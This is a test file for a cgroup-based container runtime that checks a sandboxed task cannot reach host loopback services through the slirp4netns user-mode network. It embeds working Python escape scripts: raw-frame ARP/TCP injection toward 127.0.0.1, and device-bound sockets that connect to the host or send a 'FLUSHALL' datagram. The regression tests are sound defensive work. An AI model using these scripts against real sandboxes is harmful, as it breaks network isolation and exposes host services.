import { withTimeout } from '@kiln/common';
import { resources } from '@kiln/contracts';
import { randomUUID } from 'node:crypto';
import { mkdir, readdir, rm, rmdir, writeFile } from 'node:fs/promises';
import { createSocket, type Socket } from 'node:dgram';
import { createServer, type Server } from 'node:net';
import { join } from 'node:path';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { CgroupContainerizer } from './cgroup.containerizer';
import {
  workspaceOf,
  type Containerizer,
  type ContainerSpec,
  type Termination,
} from '../containerizer';
import { readIfExists, TempDirs, uniqueContainerId } from '../testing/helpers';

/*
 * Escapes an attacker's review of the rebuilt native container found (issue 12), each a test that
 * failed while the escape worked: the user-mode network (slirp4netns) connects from the host's
 * network namespace, so a packet the task addresses to 127.0.0.1 or 0.0.0.0 by way of its tap
 * device reached the host's loopback services. The attempts use the host's python3, which the
 * native container sees read-only; each test checks the attempt really ran.
 */

const HOST_SERVICE_BANNER = `host-loopback-service-${randomUUID()}`;

/**
 * Talks TCP to the host's loopback through the user-mode network by hand, with CAP_NET_RAW: an
 * AF_PACKET socket on the interface of the default route sends the gateway frames whose
 * destination is `127.0.0.1` (or `0.0.0.0`), which the container's own kernel would route to its
 * own loopback. slirp4netns's `--disable-host-loopback` only refuses its alias 10.0.2.2: any
 * other destination it connects to from the host, 127.0.0.1 included. Prints what the service
 * says; prints nothing where there is no such interface or no raw socket.
 * Arguments: PORT DESTINATION.
 */
const RAW_FRAMES_TO_HOST_LOOPBACK = String.raw`
import socket, struct, sys, time
port, dst_ip = int(sys.argv[1]), sys.argv[2]
route = [l.split() for l in open('/proc/net/route').read().splitlines()[1:]]
ifaces = [r[0] for r in route if r[1] == '00000000']
if not ifaces: sys.exit('no default route')
iface = ifaces[0]
gw = bytes.fromhex([r[2] for r in route if r[0] == iface and r[1] == '00000000'][0])[::-1]
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
s.bind((iface, 0))
s.settimeout(0.5)
mac = bytes.fromhex(open('/sys/class/net/%s/address' % iface).read().strip().replace(':', ''))
me = bytes(gw[:3]) + bytes([250])
dst = socket.inet_aton(dst_ip)
def csum(b):
    b += b'\0' * (len(b) % 2)
    t = sum(struct.unpack('!%dH' % (len(b) // 2), b))
    while t >> 16: t = (t & 0xffff) + (t >> 16)
    return ~t & 0xffff
s.send(b'\xff' * 6 + mac + b'\x08\x06' + struct.pack('!HHBBH6s4s6s4s', 1, 0x800, 6, 4, 1, mac, me, b'\0' * 6, gw))
gwmac, end = None, time.time() + 3
while gwmac is None and time.time() < end:
    try: f = s.recv(2000)
    except socket.timeout: continue
    if f[12:14] == b'\x08\x06' and f[20:22] == b'\0\x02' and f[28:32] == gw: gwmac = f[22:28]
if gwmac is None: sys.exit('no ARP answer')
def frame(seq, ack, flags):
    tcp = struct.pack('!HHIIBBHHH', 40000, port, seq, ack, 0x50, flags, 65535, 0, 0)
    tcp = tcp[:16] + struct.pack('!H', csum(me + dst + struct.pack('!BBH', 0, 6, len(tcp)) + tcp)) + tcp[18:]
    ip = struct.pack('!BBHHHBBH4s4s', 0x45, 0, 20 + len(tcp), 1, 0, 64, 6, 0, me, dst)
    return gwmac + mac + b'\x08\x00' + ip[:10] + struct.pack('!H', csum(ip)) + ip[12:] + tcp
def segment():
    end = time.time() + 3
    while time.time() < end:
        try: f = s.recv(70000)
        except socket.timeout: continue
        if f[12:14] != b'\x08\x00' or f[23] != 6 or f[30:34] != me: continue
        t = f[14 + (f[14] & 15) * 4:]
        if struct.unpack('!H', t[2:4])[0] == 40000: return struct.unpack('!I', t[4:8])[0], t[13], t[(t[12] >> 4) * 4:]
s.send(frame(1000, 0, 0x02))
got = segment()
if got is None or got[1] & 0x04: sys.exit('refused')
s.send(frame(1001, got[0] + 1, 0x10))
data = segment()
print(data[2].decode(errors='replace') if data else '')
`;

/**
 * Connects to the host's 127.0.0.1:PORT from a socket bound (SO_BINDTODEVICE, no capability
 * needed) to the interface of the default route. Arguments: PORT.
 */
const BOUND_TO_INTERFACE_CONNECT = String.raw`
import socket, sys
route = [l.split() for l in open('/proc/net/route').read().splitlines()[1:]]
ifaces = [r[0] for r in route if r[1] == '00000000']
if not ifaces: sys.exit('no default route')
for attempt in range(3):
    s = socket.socket()
    s.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, ifaces[0].encode())
    s.settimeout(2)
    try: s.connect(('127.0.0.1', int(sys.argv[1])))
    except OSError as e: print(e)
`;

/**
 * Sends datagrams to the host's 127.0.0.1:PORT from a UDP socket bound (SO_BINDTODEVICE, no
 * capability needed) to the interface of the default route. Arguments: PORT.
 */
const BOUND_TO_INTERFACE_DATAGRAM = String.raw`
import socket, sys, time
route = [l.split() for l in open('/proc/net/route').read().splitlines()[1:]]
ifaces = [r[0] for r in route if r[1] == '00000000']
if not ifaces: sys.exit('no default route')
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, ifaces[0].encode())
for attempt in range(5):
    try: s.sendto(b'FLUSHALL\r\n', ('127.0.0.1', int(sys.argv[1])))
    except OSError as e: print(e)
    time.sleep(0.2)
print('sent')
`;

interface Setup {
  containerizer: Containerizer;
  teardown: () => Promise<void>;
}

function describeReviewedEscapes(
  title: string,
  options: { setup(): Promise<Setup>; spec?: Partial<ContainerSpec> },
): void {
  describe(`${title} holds against the reviewed escapes`, () => {
    const dirs = new TempDirs();
    const launched: string[] = [];
    let server: Server;
    let tcpPort = 0;
    /** Connections the host's loopback service accepted, from anyone. */
    let accepted = 0;
    let udp: Socket;
    let udpPort = 0;
    /** Datagrams the host's loopback UDP service received, from anyone. */
    let datagrams = 0;
    let setup: Setup | undefined;

    beforeAll(async () => {
      server = createServer((socket) => {
        accepted += 1;
        socket.end(`${HOST_SERVICE_BANNER}\n`);
      });
      await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
      const address = server.address();
      if (address === null || typeof address === 'string') throw new Error('no TCP port');
      tcpPort = address.port;
      udp = createSocket('udp4', () => (datagrams += 1));
      await new Promise<void>((resolve) => udp.bind(0, '127.0.0.1', resolve));
      udpPort = udp.address().port;
    });
    afterAll(async () => {
      await new Promise((resolve) => server.close(resolve));
      await new Promise<void>((resolve) => udp.close(() => resolve()));
    });
    afterEach(async () => {
      try {
        const ids = launched.splice(0);
        if (setup !== undefined) {
          const { containerizer } = setup;
          await withTimeout(Promise.all(ids.map((c) => containerizer.destroy(c))), 20_000);
          await setup.teardown();
        }
      } finally {
        setup = undefined;
        await dirs.removeAll();
      }
    });

    /** Runs `command` to its end with `files` in its workspace: its termination and output. */
    async function attempt(
      command: string,
      files: Record<string, string> = {},
      overrides: Partial<ContainerSpec> = {},
    ): Promise<{ termination: Termination; stdout: string; stderr: string; spec: ContainerSpec }> {
      setup = await options.setup();
      const containerId = uniqueContainerId('review');
      launched.push(containerId);
      const sandbox = await dirs.make();
      const spec: ContainerSpec = {
        containerId,
        command: { shell: true, value: command },
        environment: { PATH: '/usr/local/bin:/usr/bin:/bin:/usr/sbin:/sbin' },
        sandbox,
        resources: resources({ cpus: 1, mem: 128 }),
        maxCompletionTimeMs: 60_000,
        ...options.spec,
        ...overrides,
      };
      for (const [name, text] of Object.entries(files)) {
        await mkdir(workspaceOf(sandbox), { recursive: true });
        await writeFile(join(workspaceOf(sandbox), name), text);
      }
      expect(await setup.containerizer.launch(spec)).toEqual({ status: 'launched' });
      const termination = await setup.containerizer.wait(containerId);
      if (termination === undefined) throw new Error(`wait(${containerId}) said unknown`);
      const stdout = (await readIfExists(join(sandbox, 'stdout'))) ?? '';
      const stderr = (await readIfExists(join(sandbox, 'stderr'))) ?? '';
      return { termination, stdout, stderr, spec };
    }

    it("cannot reach a service on the host's loopback with hand-made frames through its network", async () => {
      const { stdout, stderr } = await attempt(
        `for h in 127.0.0.1 0.0.0.0; do python3 frames.py ${tcpPort} $h; done; echo done`,
        { 'frames.py': RAW_FRAMES_TO_HOST_LOOPBACK },
      );
      expect(stdout).not.toContain(HOST_SERVICE_BANNER);
      expect(stdout).toContain('done');
      // The task holds no CAP_NET_RAW: it cannot open the packet socket at all.
      expect(stderr).toContain('Operation not permitted');
    });

    it("opens no connection to the host's loopback, not even one it cannot use", async () => {
      // Without raw sockets: a socket bound to the network's interface sends its SYN for
      // 127.0.0.1 out there rather than to the container's own loopback. The handshake never
      // completes in the container (an answer from 127.0.0.1 on that interface is a martian),
      // but the user-mode network has connected to the host's service by then.
      const before = accepted;
      const { stdout } = await attempt(`python3 bound.py ${tcpPort}; echo done`, {
        'bound.py': BOUND_TO_INTERFACE_CONNECT,
      });
      expect(stdout).toContain('done');
      expect(accepted - before).toBe(0);
      // Each of the three connects ran, and failed in the container.
      expect(stdout.match(/timed out|Errno/g)).toHaveLength(3);
    });

    it("sends no datagram to the host's loopback", async () => {
      // The same bound socket, for UDP: no answer is needed, so the datagram is the attack.
      const before = datagrams;
      const { stdout } = await attempt(`python3 datagram.py ${udpPort}; echo done`, {
        'datagram.py': BOUND_TO_INTERFACE_DATAGRAM,
      });
      expect(stdout).toContain('done');
      expect(datagrams - before).toBe(0);
      expect(stdout).toContain('sent');
    });
  });
}

/** A parent cgroup of this file's own, so that its orphan hunts touch nothing else. */
const PARENT = `kiln-review-${randomUUID()}`;

afterAll(async () => {
  // runc makes the parent in every hierarchy it mounts, not only in the limits' ones.
  const hierarchies = await readdir('/sys/fs/cgroup').catch(() => [] as string[]);
  for (const hierarchy of ['', ...hierarchies]) {
    await rmdir(join('/sys/fs/cgroup', hierarchy, PARENT)).catch(() => undefined);
  }
  await rm(join('/run/kiln/cgroup', PARENT), { recursive: true, force: true });
});

describeReviewedEscapes(CgroupContainerizer.name, {
  setup: () =>
    Promise.resolve({
      containerizer: new CgroupContainerizer({
        parent: PARENT,
        pidsMax: 128,
        defaultGracePeriodMs: 1_000,
      }),
      teardown: () => Promise.resolve(),
    }),
});
